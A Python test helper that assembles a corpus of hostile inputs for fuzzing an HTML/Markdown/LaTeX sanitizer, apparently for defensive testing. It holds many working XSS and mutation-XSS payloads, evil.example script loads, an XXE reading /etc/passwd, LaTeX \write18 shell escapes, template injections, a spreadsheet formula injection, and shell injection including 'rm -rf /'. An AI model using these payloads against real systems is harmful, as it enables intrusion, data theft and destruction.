"""Hostile texts: a packaged corpus of XSS payloads, kinds of our own, and strings of nasty signs by hypothesis."""

from __future__ import annotations

import html
import itertools
import logging
from functools import cache

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

_CALL = "alert(1)"

_ELEMENTS = (
    f"<script>{_CALL}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    f"<svg><a href=javascript:{_CALL}><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_CALL}</script>'></foreignObject></svg>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<math href=javascript:{_CALL}>x</math>",
    f"<math><maction actiontype=toggle xlink:href=javascript:{_CALL}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_CALL}></annotation-xml></math>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={_CALL}>y</div>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<form action=javascript:{_CALL}><button autofocus>x</button></form>",
    f"<isindex action=javascript:{_CALL} type=image>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<style>*{background:url(https://evil.example/pixel)}</style>",
    f"<template shadowrootmode=open><img src=x onerror={_CALL}></template>",
    "<portal src=https://evil.example/></portal>",
    "<fencedframe></fencedframe>",
    "<dialog open>owned</dialog>",
    "<plaintext>",
    f"<xmp><img src=x onerror={_CALL}></xmp>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<x contenteditable onfocus={_CALL} tabindex=1 id=y>",
    "<img src=https://evil.example/pixel>",
)
"""What must not become an element, one of each kind."""

_MUTATIONS = (
    f"<svg></p><style><a id='</style><img src=x onerror={_CALL}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_CALL}>",
    f"<noscript><style></noscript><img src=x onerror={_CALL}></style>",
    f"<table><a href=javascript:{_CALL}>x</table>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_CALL}>'>",
    f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={_CALL}>//'>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<!-- --!><img src=x onerror={_CALL}> -->",
    f"<title></title><img src=x onerror={_CALL}>",
    f"<textarea></textarea><img src=x onerror={_CALL}>",
    f"<img/src/onerror={_CALL}//",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<a/onmouseover={_CALL}/href=x>x",
    "<?xml version='1.0'?><?php system('id') ?><% x %>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)

_BREAKOUTS = tuple(
    f"{quote}{close}{attack}"
    for quote, close, attack in itertools.product(
        ('"', "'", "`", "&quot;", "&#x27;"),
        ("", ">", "/>"),
        (f" onmouseover={_CALL} x=", f" autofocus onfocus={_CALL} tabindex=1 ", " style=position:fixed;inset:0 "),
    )
)

_CLOSERS = tuple(
    f"{closer}<img src=x onerror={_CALL}><h1>owned</h1>"
    for closer in (
        "</article>",
        "</a></h3></article>",
        "</span></small></a>",
        "</dd></dl>",
        "</details></article>",
        "</p></div></body></html>",
        "</title></head><body>",
        "</script>",
        "</style>",
        "</textarea>",
        "</template>",
        "</mtext></math>",
        "</annotation></semantics></math>",
        "-->",
        "]]>",
        "*/",
    )
)

_SCHEMES = tuple(
    spelling.format(scheme)
    for spelling, scheme in itertools.product(
        ("{}alert(1)", "[x]({}alert(1))", "[x]: {}alert(1)\n\n[x]", "<{}alert(1)>", "\\href{{{}alert(1)}}{{x}}"),
        (
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "\x01javascript:",
            "javascript&colon;",
            "&#106;avascript:",
            "vbscript:",
            "data:text/html,<script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "view-source:javascript:",
            "blob:https://evil.example/",
        ),
    )
)

_ADDRESSES = (
    "https://a.b/'onmouseover='alert(1)",
    'https://a.b/"onmouseover="alert(1)',
    "https://a.b/<script>alert(1)</script>",
    'https://a.b/\\"><script>alert(1)</script>',
    "https://evil.example\\@a.b/",
    "https://a.b@evil.example/",
    "https://[::1/",
    "https://a.b:99999999/",
    "//evil.example/x",
    "http://a.b/%0d%0aSet-Cookie:x=1",
    'https://github.com/"><script>/x',
    "file:///etc/passwd",
)

_FORMULAS = tuple(
    f"${body}$"
    for body in (
        f"\\text{{<script>{_CALL}</script>}}",
        f"\\mbox{{<img src=x onerror={_CALL}>}}",
        f"\\href{{javascript:{_CALL}}}{{x}}",
        f"\\url{{javascript:{_CALL}}}",
        f"\\html{{<img src=x onerror={_CALL}>}}",
        f"\\htmlData{{onclick={_CALL}}}{{x}}",
        "\\class{x onclick=alert(1)}{x}",
        "\\style{background:url(https://evil.example/)}{x}",
        '\\color{red;background:url(x)}x \\textcolor{"><script>}{x}',
        "\\includegraphics{https://evil.example/x.png}",
        "\\input{/etc/passwd}",
        "\\write18{id}",
        "\\def\\x{\\x\\x}\\x",
        "\\unicode{x3c}script\\unicode{x3e}",
        "x < script > y </script>",
        "\\begin{array}{<script>}x\\end{array}",
        "\\operatorname{</math><img src=x onerror=alert(1)>}",
        "\\require{html}",
        "\\hspace{999999em}",
        "{" * 200 + "x" + "}" * 200,
    )
)

_OTHER_CONTEXTS = (
    # BibTeX and RIS, where a paper is cited.
    "} , note = {\\immediate\\write18{id}}, x = {",
    "@article{owned, title = {x}}",
    "x\nER  - \n\nTY  - JOUR\nTI  - owned",
    "x\r\nTI  - owned",
    '" # "owned',
    # Atom, JSON and a script, where it is data.
    "]]></title><entry><id>owned</id></entry><title>",
    "</content><link href='https://evil.example/'/>",
    '", "owned": "1',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\u2028alert(1)\u2029",
    # Templates and Markdown.
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %> ${{secrets.GITHUB_TOKEN}}",
    "{: onclick=alert(1) } {: .x #y }",
    "--8<-- '/etc/passwd'",
    "!!! danger\n    owned",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[^1]: owned\n*[HTML]: owned",
    "::warning file=x::owned",
    "::set-output name=x::owned",
    "<m0/> <m1/> \ue0000\ue001",
    "==SUMMARY==",
    # Signs that change how others are read.
    "\u202eright to left\u202c \u2066isolated",
    "zero\u200bwidth\u200d\ufeff joiner",
    "nul\x00 in <scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b[31mred\x1b[0m \x07 bell \x08",
    "\x7f \x80 \x9f \xad soft",
    "\ufffe \uffff noncharacters \U0001ffff",
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "Z̷̢͕͠a̸l͔g̷o " + "\u0301" * 300,
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    # Spreadsheets and shells, for whoever copies a text there.
    "=cmd|' /C calc'!A0",
    "$(id) `id` ; rm -rf / | cat",
    "../../../../etc/passwd",
    "A" * 5_000,
    "🏴\U000e0067\U000e0062\U000e007f" * 20,
)

_SPELLINGS = (
    str.upper,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text: "".join(f"&#x{ord(sign):x}" for sign in text),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c").replace("=", "\t=\n"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "\\<").replace("(", "\\("),
    lambda text: f"**{text}** `{text}`",
    lambda text: f"$x$ {text} $",
)
"""Ways to write an attack in which a filter might not know it."""

_SIGNS = st.sampled_from(
    "<>\"'&`=/\\${}%()[]:;#!-_*~^|@ \t\n\r\x00\x0b\x0c\x1b\x7f\x85\xa0\u2028\u2029\u202e\u200b\ufeff"
)
_NASTY = st.text(st.one_of(_SIGNS, _SIGNS, st.characters(exclude_categories=["Cs"])), max_size=60)
"""Any text at all, and one of the signs that mean something somewhere."""


@cache
def own() -> tuple[str, ...]:
    """The kinds of this file: the plain ones, and every element in every spelling."""
    plain = (*_ELEMENTS, *_MUTATIONS, *_BREAKOUTS, *_CLOSERS, *_SCHEMES, *_ADDRESSES, *_FORMULAS, *_OTHER_CONTEXTS)
    spelt = (spell(text) for text, spell in itertools.product(_ELEMENTS[::4], _SPELLINGS))
    return tuple(dict.fromkeys((*plain, *spelt)))


@cache
def packaged() -> tuple[str, ...]:
    """The payloads of the package brs-kb, each once."""
    before = logging.root.manager.disable
    logging.disable()  # the package logs what it has loaded
    try:
        from brs_kb.payloads import FULL_PAYLOAD_DATABASE
    finally:
        logging.disable(before)
    return tuple(dict.fromkeys(entry.payload for entry in FULL_PAYLOAD_DATABASE.values()))


@cache
def strings(count: int) -> tuple[str, ...]:
    """Strings of nasty signs, always the same ones."""
    found: list[str] = []

    @settings(
        max_examples=count,
        derandomize=True,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(text=_NASTY)
    def keep(text: str) -> None:
        found.append(text)

    keep()
    return tuple(found)
